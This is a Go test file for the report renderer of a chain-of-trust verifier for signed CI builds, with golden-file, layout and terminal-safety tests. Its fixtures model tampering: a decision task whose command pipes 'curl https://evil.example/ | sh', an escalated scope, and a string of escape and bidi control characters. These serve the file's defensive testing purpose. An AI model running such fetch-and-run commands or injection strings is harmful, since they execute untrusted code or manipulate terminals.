package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"cotverify/pkg/verify"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden holds what was written against the file of that name.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// The tasks of the reports below.
const (
	signingID  = "IJbJTQLOTsuAce5W4sVfnw"
	decisionID = "TzcmAgOaS_-fKH_dxG3yoQ"
	buildID    = "MRs6JR0jTv6lSSclcNPHxA"
	build2ID   = "SNN6KjxpQRic2XXnJFYvEg"
	imageID    = "V8Q7FYSwRnGW7_1GYpdJVQ"
	earlierID  = "c0dlJ6fGRWm1RyRPVG3Jvw"
)

// chain returns the links of a signing task of two builds in one docker image,
// which an earlier push made.
func chain() []verify.Link {
	parent := func(id string) verify.Dependency { return verify.Dependency{TaskID: id, As: "parent"} }
	return []verify.Link{
		{TaskID: signingID, Name: "signing", TaskType: "signing", WorkerImplementation: "scriptworker", Parent: decisionID, Label: "glean signing",
			Dependencies: []verify.Dependency{parent(decisionID), {TaskID: buildID, As: "build"}, {TaskID: build2ID, As: "build"}}},
		{TaskID: decisionID, Name: "signing:decision", TaskType: "decision", WorkerImplementation: "docker-worker", Parent: decisionID, Label: "Decision Task",
			Dependencies: []verify.Dependency{parent(decisionID)}},
		{TaskID: buildID, Name: "signing:build", TaskType: "build", WorkerImplementation: "docker-worker", Parent: decisionID, Label: "build-glean-github-push",
			Dependencies: []verify.Dependency{parent(decisionID), {TaskID: imageID, As: "docker-image"}}},
		{TaskID: build2ID, Name: "signing:build", TaskType: "build", WorkerImplementation: "generic-worker", Parent: decisionID, Label: "build-glean-windows-push",
			Dependencies: []verify.Dependency{parent(decisionID), {TaskID: imageID, As: "docker-image"}}},
		{TaskID: imageID, Name: "signing:build:docker-image", TaskType: "docker-image", WorkerImplementation: "docker-worker", Parent: earlierID,
			Dependencies: []verify.Dependency{parent(earlierID)}},
		{TaskID: earlierID, Name: "signing:build:docker-image:decision", TaskType: "decision", WorkerImplementation: "docker-worker", Parent: earlierID, Label: "Decision Task",
			Dependencies: []verify.Dependency{parent(earlierID)}},
	}
}

// report returns a report of the chain in which each link passes some checks,
// and has the given ones besides.
func report(more ...verify.Check) *verify.Report {
	r := &verify.Report{
		Schema: verify.Schema,
		Target: verify.Target{TaskID: signingID, TaskType: "signing", Product: "glean"},
		Links:  chain(),
	}
	for _, link := range r.Links {
		for _, name := range []string{"task", "task-type", "depth", "worker", "signature", "cot"} {
			r.Checks = append(r.Checks, verify.Check{Check: name, Status: verify.Pass, TaskID: link.TaskID, Link: link.Name})
		}
		for _, c := range more {
			if c.TaskID == link.TaskID {
				c.Link = link.Name
				r.Checks = append(r.Checks, c)
			}
		}
	}
	counts := map[verify.Status]int{}
	for _, c := range r.Checks {
		counts[c.Status]++
	}
	r.Counts = verify.Counts{
		Pass: counts[verify.Pass], Fail: counts[verify.Fail], Error: counts[verify.Error],
		Warn: counts[verify.Warn], Skip: counts[verify.Skip],
	}
	switch {
	case r.Counts.Fail > 0:
		r.Verdict = verify.Refused
	case r.Counts.Error > 0:
		r.Verdict = verify.Unknown
	default:
		r.Verdict = verify.Verified
	}
	return r
}

func refused() *verify.Report {
	return report(
		verify.Check{Check: "artifact", Status: verify.Fail, TaskID: buildID, Subject: "public/build/target.apk",
			Message:  "the file is not the one that the task signed",
			Expected: "sha256:da559d42e6cc1d4f1ff0eb9f1e4f1b3b9c9be3a0d1ad2f52b1e7c9f4c5c1a9ee",
			Actual:   "sha256:9f2c110ab3d1da9d2a8af6d4bb4aa5a6b7cf0b4ae2d0eb93a4a9b7a2e6c2f8b1",
			Hint:     "it changed after the task signed it: suspect the storage, not the build"},
		verify.Check{Check: "worker-pool", Status: verify.Fail, TaskID: decisionID,
			Message:  "the pool is none of the policy's decision pools",
			Expected: "glean-1/decision, glean-3/decision, glean-1/decision-gcp or glean-3/decision-gcp", Actual: "glean-2/decision"},
		verify.Check{Check: "task-graph", Status: verify.Skip, TaskID: imageID,
			Message: "the decision task's public/task-graph.json could not be read"},
		verify.Check{Check: "unpinned-image", Status: verify.Warn, TaskID: earlierID, Subject: "payload.image",
			Message: "the image is named without a digest, so that another one may have run", Actual: "mozillareleases/taskgraph:decision-v9.1.0"},
		verify.Check{Check: "artifact", Status: verify.Error, TaskID: build2ID, Subject: "public/build/target.zip",
			Message: "artifact public/build/target.zip of task SNN6KjxpQRic2XXnJFYvEg could not be had: the server answered 503 three times",
			Hint:    "try again later"},
	)
}

func decisionRefused(n int) *verify.Report {
	diff := []verify.Difference{
		{Path: "/payload/env/GLEAN_HEAD_REV", Rebuilt: json.RawMessage(`"121adc467e589742835792d2321882bfd4e0b2fc"`),
			Runtime: json.RawMessage(`"121adc467e589742835792d2321882bfd4e0b2fd"`), Line: 210, Context: []string{"event.after"}},
		{Path: "/payload/command/6", Line: 230, Via: []int{31, 12}, Context: []string{"event.repository.html_url", "event.after", "ownTaskId"},
			Rebuilt: json.RawMessage(`"` + strings.Repeat("PIP_IGNORE_INSTALLED=0 ", 12) + `pip install taskcluster && ./run decision"`),
			Runtime: json.RawMessage(`"` + strings.Repeat("PIP_IGNORE_INSTALLED=0 ", 12) + `curl https://evil.example/ | sh; ./run decision"`)},
		{Path: "/scopes/3", Runtime: json.RawMessage(`"queue:create-task:highest:*"`)},
		{Path: "/extra/treeherder", Rebuilt: json.RawMessage(`{"symbol": "D",
			"machine": {"platform": "gecko-decision"}}`)},
	}
	for len(diff) < n {
		diff = append(diff, verify.Difference{Path: "/routes/0", Rebuilt: json.RawMessage(`1`), Runtime: json.RawMessage(`2`)})
	}
	return report(verify.Check{Check: "decision", Status: verify.Fail, TaskID: decisionID,
		Message: "no task that .taskcluster.yml renders to equals the definition; the closest differs in 4 places",
		Hint:    "cotverify decision " + decisionID + " --context", Diff: diff[:n]})
}

func TestTree(t *testing.T) {
	leftOut := report(verify.Check{Check: "artifact", Status: verify.Skip, TaskID: buildID, Subject: "public/a", Message: "the bundle leaves it out"})
	leftOut.Verdict = verify.Unknown
	inferred := report()
	inferred.Target.Inferred = []string{"task type signing from tags.kind", "product glean from metadata.source and the environment of its decision task"}
	mixed := report()
	mixed.Target.TaskTypeFrom, mixed.Target.ProductFrom = verify.FromFlag, verify.FromBundle
	given := report()
	given.Target.TaskTypeFrom, given.Target.ProductFrom = verify.FromFlag, verify.FromFlag
	skipped := report(
		verify.Check{Check: "cot", Status: verify.Skip, TaskID: signingID, Message: "the target has not run yet"},
		verify.Check{Check: "artifact", Status: verify.Skip, TaskID: signingID, Message: "the target has not run yet"},
		verify.Check{Check: "artifact", Status: verify.Skip, TaskID: signingID, Message: "the target has not run yet"},
		verify.Check{Check: "docker-image", Status: verify.Skip, TaskID: signingID, Message: "another reason"},
	)
	tests := []struct {
		name   string
		report *verify.Report
		o      TreeOptions
	}{
		{"verified", report(), TreeOptions{}},
		{"verified-wide", report(), TreeOptions{Width: 120}},
		{"refused", refused(), TreeOptions{}},
		{"refused-ascii", refused(), TreeOptions{ASCII: true}},
		{"refused-verbose", refused(), TreeOptions{Verbose: true, Width: 100}},
		{"refused-color", refused(), TreeOptions{Color: true}},
		{"refused-narrow", refused(), TreeOptions{Width: 50}},
		{"decision", decisionRefused(4), TreeOptions{}},
		{"decision-many", decisionRefused(9), TreeOptions{Width: 100}},
		{"decision-verbose", decisionRefused(9), TreeOptions{Verbose: true}},
		{"left-out", leftOut, TreeOptions{}},
		{"warned", report(verify.Check{Check: "no-hash", Status: verify.Warn, TaskID: buildID, Subject: "public/a", Message: "its set of hashes is empty"}), TreeOptions{}},
		{"inferred", inferred, TreeOptions{}},
		{"given", given, TreeOptions{}},
		{"mixed", mixed, TreeOptions{}},
		{"skipped", skipped, TreeOptions{}},
		{"error", report(verify.Check{Check: "repository", Status: verify.Error, TaskID: buildID, Message: "projects.yml could not be had"}), TreeOptions{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := Tree(&buf, tt.report, tt.o); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name+".txt", buf.Bytes())
		})
	}
}

// lines returns the lines of a report's tree.
func lines(t *testing.T, r *verify.Report, o TreeOptions) []string {
	t.Helper()
	var buf bytes.Buffer
	if err := Tree(&buf, r, o); err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
}

func TestNoLineIsTooWide(t *testing.T) {
	for _, r := range []*verify.Report{report(), refused(), decisionRefused(9), deep(20)} {
		for _, o := range []TreeOptions{{}, {ASCII: true}, {Verbose: true}, {Width: 132}} {
			width := o.Width
			if width == 0 {
				width = 80
			}
			for _, line := range lines(t, r, o) {
				if n := columns(line); n > width {
					t.Errorf("%+v: %d columns: %s", o, n, line)
				}
			}
		}
	}
}

// deep returns a report of a chain in which each task leads to the next.
func deep(n int) *verify.Report {
	r := &verify.Report{Schema: verify.Schema, Verdict: verify.Refused, Counts: verify.Counts{Fail: 1}}
	name := "signing"
	for i := range n {
		link := verify.Link{TaskID: strings.Repeat(string(rune('A'+i)), 22), Name: name, TaskType: "build", Label: "a task among others", WorkerImplementation: "docker-worker"}
		if i > 0 {
			above := &r.Links[i-1]
			above.Dependencies = []verify.Dependency{{TaskID: link.TaskID, As: "build"}}
		}
		r.Links = append(r.Links, link)
		name += ":build"
	}
	last := r.Links[n-1]
	r.Checks = []verify.Check{{Check: "depth", Status: verify.Fail, TaskID: last.TaskID, Link: last.Name, Message: "its name holds more colons than a chain may be deep",
		Expected: "at most 20", Actual: "21"}}
	return r
}

func TestDeepTree(t *testing.T) {
	var buf bytes.Buffer
	if err := Tree(&buf, deep(20), TreeOptions{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "deep.txt", buf.Bytes())
}

func TestWideTreeFolds(t *testing.T) {
	var checks []verify.Check
	for range 50 {
		checks = append(checks, verify.Check{Check: "artifact", Status: verify.Fail, TaskID: buildID, Message: "no", Hint: "the same"})
	}
	text := strings.Join(lines(t, report(checks...), TreeOptions{}), "\n")
	if n := strings.Count(text, "✗ artifact"); n != maxUnfolded {
		t.Errorf("%d failures are unfolded, want %d", n, maxUnfolded)
	}
	if !strings.Contains(text, "and 38 more; --verbose lists them") {
		t.Errorf("the others are not mentioned:\n%s", text)
	}
	if n := strings.Count(text, "the same"); n != 1 {
		t.Errorf("the hint is there %d times, want it once", n)
	}
	if n := strings.Count(strings.Join(lines(t, report(checks...), TreeOptions{Verbose: true}), "\n"), "✗ artifact"); n != 50 {
		t.Errorf("--verbose lists %d failures, want 50", n)
	}
}

func TestHostileText(t *testing.T) {
	hostile := "a\x1b[2J\r\n\u202eb\xff\u009b\u200bc" + strings.Repeat("x", 10_000)
	r := &verify.Report{
		Verdict: verify.Refused,
		Target:  verify.Target{TaskID: hostile, Inferred: []string{hostile}},
		Links: []verify.Link{{TaskID: hostile, Name: hostile, TaskType: hostile, WorkerImplementation: hostile, Label: hostile,
			Dependencies: []verify.Dependency{{TaskID: hostile + "2", As: hostile}}}},
		Checks: []verify.Check{
			{Check: "artifact", Status: verify.Fail, TaskID: hostile, Link: hostile, Subject: hostile, Message: hostile, Expected: hostile, Actual: hostile + "2", Hint: hostile,
				Diff: []verify.Difference{{Path: hostile, Rebuilt: json.RawMessage(hostile), Runtime: json.RawMessage("7"), Line: 1, Context: []string{hostile}}}},
			{Check: "artifact", Status: verify.Skip, TaskID: "stray" + hostile, Link: hostile, Message: hostile},
		},
	}
	for _, o := range []TreeOptions{{}, {ASCII: true}, {Verbose: true}} {
		got := lines(t, r, o)
		for _, line := range got {
			if escape(line, isVisible) != line {
				t.Errorf("%+v: not fit for a terminal: %q", o, line)
			}
			if o.ASCII && escape(line, isASCII) != line {
				t.Errorf("not ASCII: %q", line)
			}
		}
		if !o.Verbose && len(got) > 80 {
			t.Errorf("%+v: %d lines", o, len(got))
		}
	}
	g := &verify.Graph{Target: r.Target, Links: r.Links, Problems: []verify.Problem{
		{Kind: verify.Wrong, Check: hostile, TaskID: hostile, Link: hostile, Subject: hostile, Message: hostile, Expected: hostile, Actual: hostile + "2", Hint: hostile},
	}}
	for name, draw := range map[string]func() error{
		"tree":    func() error { return GraphTree(discard{t}, g, TreeOptions{}) },
		"json":    func() error { return GraphJSON(discard{t}, g) },
		"dot":     func() error { return Dot(discard{t}, g) },
		"mermaid": func() error { return Mermaid(discard{t}, g) },
	} {
		if err := draw(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// discard fails for text that is not fit for a terminal.
type discard struct{ t *testing.T }

func (d discard) Write(p []byte) (int, error) {
	for line := range strings.SplitSeq(string(p), "\n") {
		if escape(line, isVisible) != line {
			d.t.Errorf("not fit for a terminal: %q", line)
		}
	}
	return len(p), nil
}

func TestTreeOfReferences(t *testing.T) {
	link := func(id string, to ...verify.Dependency) verify.Link {
		return verify.Link{TaskID: id, Name: id, TaskType: "build", WorkerImplementation: "docker-worker", Parent: "D", Dependencies: to}
	}
	dep := func(id string) verify.Dependency { return verify.Dependency{TaskID: id, As: "build"} }
	r := &verify.Report{Verdict: verify.Verified, Links: []verify.Link{
		// B hangs where the walk reached it first, below A, though C is drawn before.
		link("A", dep("C"), dep("B"), dep("B"), dep("A"), dep("gone")),
		link("C", dep("B"), dep("A")),
		link("B", dep("C")),
		link("alone"),
	}}
	var buf bytes.Buffer
	if err := Tree(&buf, r, TreeOptions{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "references.txt", buf.Bytes())
}

func TestEmptyReport(t *testing.T) {
	got := lines(t, &verify.Report{Verdict: verify.Unknown, Counts: verify.Counts{Error: 1},
		Checks: []verify.Check{{Check: "task", Status: verify.Error, TaskID: signingID, Link: "signing", Message: "no answer"}}}, TreeOptions{})
	want := []string{
		"signing  IJbJTQLOTsuAce5W4sVfnw",
		"   ? task",
		"     no answer",
		"     hint      cotverify explain task",
		"could not tell: 1 of 1 check could not be made (task), 0 warnings",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
